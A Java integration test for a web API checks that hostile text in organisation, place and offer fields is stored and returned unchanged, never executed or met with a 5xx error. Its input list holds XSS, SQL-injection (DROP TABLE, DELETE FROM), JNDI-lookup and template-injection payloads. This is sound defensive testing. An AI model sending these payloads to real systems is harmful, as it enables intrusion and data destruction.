package org.deban.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.core.type.Argument;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpResponse;
import io.micronaut.http.MediaType;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import javax.sql.DataSource;
import org.deban.ApiClient;
import org.deban.Sql;
import org.deban.catalogue.Fixtures;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Input written to break things is stored and returned as data, or refused with a problem document; never a 5xx. */
@MicronautTest(transactional = false)
class HostileInputTest {
    private static final Argument<Map<String, Object>> MAP = Argument.mapOf(String.class, Object.class);

    @Inject
    @Client("/")
    HttpClient http;

    @Inject
    DataSource dataSource;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert('出番')</script>",
                "<img src=x onerror=alert(1)>",
                "'; DROP TABLE place; --",
                "\" OR 1=1 --",
                "Robert'); DELETE FROM offer;--",
                "${jndi:ldap://example.invalid/a}",
                "{{7*7}}"
            })
    @SuppressWarnings("unchecked")
    void textIsStoredAndReturnedExactlyAsSent(String hostile) {
        ApiClient api = new ApiClient(http);
        Sql sql = new Sql(dataSource);
        long placesBefore = sql.count("SELECT count(*) FROM place");
        // Every free-text field of an organisation, a place and an offer.
        Map<String, Object> org = Fixtures.organization(hostile);
        org.put("nameKana", hostile);
        org.put("description", hostile);
        long organization = api.id(api.post("/api/v1/organizations", org));
        Map<String, Object> request = Fixtures.place(organization, hostile);
        for (String field : List.of("nameKana", "description", "address", "statusNote")) request.put(field, hostile);
        request.put("contact", Map.of("person", hostile));
        long place = api.id(api.post("/api/v1/places", request));
        Map<String, Object> offerRequest = Fixtures.offer(place, hostile);
        for (String field : List.of("description", "strengthsWanted", "costNote")) offerRequest.put(field, hostile);
        long offer = api.id(api.post("/api/v1/offers", offerRequest));

        HttpResponse<Map<String, Object>> read = api.get("/api/v1/places/" + place);
        assertThat(read.getContentType()).contains(MediaType.APPLICATION_JSON_TYPE);
        Map<String, Object> stored = api.ok(read);
        for (String field : List.of("name", "nameKana", "description", "address", "statusNote")) {
            assertThat(stored).as(field).containsEntry(field, hostile);
        }
        assertThat((Map<String, Object>) stored.get("contact")).containsEntry("person", hostile);
        Map<String, Object> storedOffer = api.ok(api.get("/api/v1/offers/" + offer));
        for (String field : List.of("title", "description", "strengthsWanted", "costNote")) {
            assertThat(storedOffer).as(field).containsEntry(field, hostile);
        }
        Map<String, Object> storedOrg = api.ok(api.get("/api/v1/organizations/" + organization));
        for (String field : List.of("name", "nameKana", "description")) {
            assertThat(storedOrg).as(field).containsEntry(field, hostile);
        }
        assertThat(sql.count("SELECT count(*) FROM place")).isEqualTo(placesBefore + 1);

        // The same strings as filters and search text are values, never code.
        String q = URLEncoder.encode(hostile, StandardCharsets.UTF_8);
        assertThat(api.get("/api/v1/search?q=" + q).code()).isEqualTo(200);
        HttpResponse<Map<String, Object>> filtered = api.get("/api/v1/places?kind=" + q);
        assertThat(filtered.code()).isEqualTo(400);
        assertThat(filtered.getContentType()).map(MediaType::toString).hasValue("application/problem+json");
    }

    @Test
    void anOversizedBodyIsRefusedWith413() {
        String huge = "あ".repeat(1_500_000); // 4.5 MB of UTF-8
        HttpResponse<Map<String, Object>> refused =
                new ApiClient(http).exchange(HttpRequest.POST("/api/v1/organizations", Map.of("name", huge)));
        assertThat(refused.code()).isEqualTo(413);
        assertThat(refused.getContentType()).map(MediaType::toString).hasValue("application/problem+json");
        assertThat(refused.getBody(MAP)).get().extracting(m -> m.get("status")).isEqualTo(413);
    }

    @Test
    void aBodyJustUnderTheLimitIsStillReadAndJudgedOnItsFields() {
        HttpResponse<Map<String, Object>> response =
                new ApiClient(http).post("/api/v1/organizations", Map.of("name", "い".repeat(300_000)));
        assertThat(response.code()).isEqualTo(400);
        assertThat(String.valueOf(response.getBody(MAP).orElseThrow().get("errors")))
                .contains("name");
    }
}
